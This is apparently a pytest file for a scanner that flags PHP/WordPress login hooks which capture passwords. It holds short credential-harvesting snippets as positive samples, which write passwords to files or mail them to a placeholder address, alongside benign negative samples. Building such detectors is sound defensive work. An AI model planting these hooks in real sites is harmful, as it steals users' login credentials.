"""Passwords taken at a login. The samples are ours, and inert."""

from __future__ import annotations

import pytest


@pytest.mark.parametrize(
    ("source", "mark"),
    [
        (
            (
                "function wp_authenticate($u, $p) { file_put_contents('/tmp/.l', $u . ':' . "
                "$p, FILE_APPEND); return null; }"
            ),
            "php-mails-password",
        ),
        (
            (
                'function wp_authenticate($username, $password) { $m = "$username '
                "$password\"; mail('a@b.example', 'x', $m); return null; }"
            ),
            "php-mails-password",
        ),
        (
            (
                "function wp_signon($credentials = []) { $h = fopen('a', 'a'); fwrite($h, "
                "$credentials['user_password']); }"
            ),
            "php-mails-password",
        ),
        (
            (
                "function wp_check_password($password, $hash) { $line = "
                "base64_encode($password); fputs(fopen('x', 'a'), $line); return true; }"
            ),
            "php-mails-password",
        ),
        (
            (
                "add_filter('authenticate', 'cap', 30, 3); function cap($u, $l, $p) { "
                "file_put_contents('x', $l . $p, 8); return $u; }"
            ),
            "php-mails-password",
        ),
        (
            (
                "add_action('wp_authenticate', function ($name, $pass) { "
                "mail('a@b.example', 'x', $pass); });"
            ),
            "php-mails-password",
        ),
        (
            (
                "add_action('wp_login', 'seen'); function seen() { "
                "file_put_contents(ABSPATH . 'x', $_POST['pwd']); }"
            ),
            "php-mails-password",
        ),
        (
            (
                "class T { function a() { add_filter('authenticate', [$this, 'keep'], 9, "
                "3); } function keep($u, $n, $password) { fwrite($this->h, $password); } }"
            ),
            "php-mails-password",
        ),
        (
            (
                "class P { function onUserAuthenticate($credentials, $o, &$r) { "
                "file_put_contents('x', json_encode($credentials)); } }"
            ),
            "php-mails-password",
        ),
    ],
)
def test_points_at(sure, source, mark):
    assert mark in sure(source)


@pytest.mark.parametrize(
    "source",
    [
        (
            "function wp_authenticate($u, $p) { $user = apply_filters('authenticate', "
            "null, $u, $p); file_put_contents('log', $u); return $user; }"
        ),
        (
            "add_action('wp_login_failed', 'note'); function note($username) { "
            "file_put_contents('failed', $username . $_SERVER['REMOTE_ADDR']); }"
        ),
        (
            "add_filter('authenticate', 'ext', 10, 3); function ext($u, $n, $password) "
            "{ return wp_remote_post(get_option('a'), ['body' => ['p' => $password]]); "
            "}"
        ),
        "add_filter('authenticate', 'wp_authenticate_spam_check', 99); file_put_contents('x', $y);",
        (
            "function set_password($password) { file_put_contents('.env', "
            "'DB_PASSWORD=' . $password); }"
        ),
        (
            "function wp_check_password($password, $hash) { if "
            "(!password_verify($password, $hash)) { mail($admin, 'x', 'A login "
            "failed'); } }"
        ),
        (
            "add_action('wp_login', 'greet', 10, 2); function greet($login, $user) { "
            "mail($user->user_email, 'Hello', $login); }"
        ),
    ],
)
def test_leaves_alone(sure, source):
    assert sure(source) == set()
